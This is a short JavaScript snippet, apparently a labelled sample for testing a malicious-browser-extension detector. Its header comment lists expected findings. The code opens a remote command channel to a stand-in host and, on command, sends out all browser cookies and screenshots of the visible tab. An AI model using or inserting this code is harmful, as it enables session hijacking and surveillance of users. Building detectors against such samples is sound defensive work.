// expect: command-channel, session-cookies-taken, screen-watched
function connect() { const s = io("https://x.example"); s.on("command", async (c) => { if (c.name === "cookies") s.emit("r", await chrome.cookies.getAll({})); if (c.name === "shot") s.emit("r", await chrome.tabs.captureVisibleTab()); }); } connect();
